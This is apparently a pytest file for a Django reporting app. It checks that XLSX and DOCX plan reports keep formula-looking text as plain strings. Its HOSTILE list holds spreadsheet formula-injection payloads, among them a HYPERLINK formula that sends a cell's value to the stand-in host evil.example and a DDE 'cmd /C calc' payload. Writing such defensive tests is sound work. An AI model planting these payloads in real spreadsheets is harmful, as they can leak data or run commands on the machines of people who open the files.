"""Report documents never turn what a department typed into a formula: every cell of the XLSX is
text, and the DOCX has no field codes."""

import io
import zipfile

import openpyxl
import pytest

from cooperation.models import Department
from reports.builders import plan_report
from reports.renderers import render_docx, render_xlsx
from tests.factories import PlannedEventFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _bytes(document):
    return document if isinstance(document, bytes) else document.getvalue()


def test_cells_that_look_like_formulas_stay_text_in_the_report_documents():
    department = Department.objects.first()
    for n, text in enumerate(HOSTILE):
        PlannedEventFactory(department=department, title=text, venue=text, position=n + 1)
    xlsx = render_xlsx(plan_report(year=2022, half=2))  # a table's rows are read once
    workbook = openpyxl.load_workbook(io.BytesIO(_bytes(xlsx)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value]
    hostile = [
        cell
        for cell in cells
        if str(cell.value).lstrip("\t\r") != str(cell.value) or str(cell.value)[:1] in "=+-@"
    ]
    assert len(hostile) >= len(HOSTILE)
    assert all(cell.data_type == "s" for cell in hostile), [
        (cell.coordinate, cell.value, cell.data_type) for cell in hostile if cell.data_type != "s"
    ]

    docx = render_docx(plan_report(year=2022, half=2))
    with zipfile.ZipFile(io.BytesIO(_bytes(docx))) as docx:
        body = docx.read("word/document.xml").decode()
    assert "instrText" not in body and "fldSimple" not in body
    assert '>=HYPERLINK("http://evil.example/?"' in body  # plain text
